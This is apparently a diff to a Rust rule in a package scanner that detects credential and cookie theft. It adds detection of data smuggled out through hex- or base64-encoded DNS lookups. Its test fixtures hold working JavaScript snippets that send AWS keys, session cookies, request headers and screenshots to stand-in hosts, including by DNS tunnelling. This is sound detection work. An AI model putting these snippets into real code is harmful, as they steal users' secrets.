@@ -19,7 +19,7 @@ crate::declare_rule! {
     /// by name, or fills a top-level buffer it reads); callbacks belong to the function that
     /// registers them, and the top level (with its IIFEs) is one more function. A weak source
     /// (screen, clipboard, fields, a secret pattern) needs a second kind or the machine's
-    /// identity there too, else high; secret-named environment variables count only three or
+    /// identity there too, or a send hidden in encoded DNS names, else high; secret-named environment variables count only three or
     /// more at once. Analytics SDKs read their own cookie by name, persist libraries walk
     /// storage towards an address their caller gives, Electron cookie managers export to a file:
     /// none matches.
@@ -38,6 +38,7 @@ crate::declare_rule! {
         "async function snap() { const env = process.env; const out = [env.AWS_ACCESS_KEY_ID, env.AWS_SECRET_ACCESS_KEY, env.AWS_SESSION_TOKEN]; const req = https.request('https://hooks.example.com/x', { method: 'POST' }); req.end(JSON.stringify(out)) }\nsnap()",
         "const queue = [];\nfunction hook(ses) { ses.webRequest.onBeforeSendHeaders({ urls: ['*://*/*'] }, (d, cb) => { queue.push(d.requestHeaders); cb({}) }) }\nfunction flush() { const r = net.request({ method: 'POST', url: 'https://c.example.org/b' }); r.end(JSON.stringify(queue.splice(0))) }",
         "const dns = require('dns')\nfunction beacon(p) { dns.resolve4(Buffer.from(p).toString('hex') + '.q.example.net', () => {}) }\nmodule.exports = (req, res, next) => { const jar = String(req.headers.cookie).split(';').filter((kv) => /sess|token|jwt/.test(kv)); beacon(jar.join(';') + require('os').hostname()); next() }",
+        "const dns = require('dns')\nconst S = /sess|token|jwt/i\nfunction leak(v) { dns.resolve4(Buffer.from(v).toString('hex').slice(0, 60) + '.d.example.org', () => {}) }\nexports.mw = (req, res, next) => { const c = String(req.headers.cookie).split(';').filter((kv) => S.test(kv)); if (c.length) leak(c.join(';')); next() }",
         "async function shot() { await run('/usr/sbin/screencapture', ['-x', f]); const form = new FormData(); form.append('h', os.hostname()); await fetch('https://upload.example.org/s', { method: 'POST', body: form }) }",
     ],
     pass: [
@@ -511,7 +512,13 @@ fn check(pkg: &Package, out: &mut Emitter) {
             // API, so a key or two next to a fixed URL is no theft.
             let other_kinds = kinds.len() - usize::from(!env_names.is_empty());
             let span = scope.unwrap_or((0, f.text.len() as u32));
+            // Encoded data in DNS names: a covert channel no client needs for its own API.
+            let covert = crate::regex!(r"\.(?:resolve\w*|lookup)\(")
+                .is_match(unit_text(&f.text, *scope))
+                && crate::regex!(r#"toString\(\s*['"](?:hex|base64)|base32"#)
+                    .is_match(unit_text(&f.text, *scope));
             let strong = here.iter().any(|s| s.strong)
+                || covert && other_kinds >= 1
                 || env_names.len() >= 3
                 || other_kinds >= 2
                 || other_kinds >= 1 && identity_in(&f.text, span);
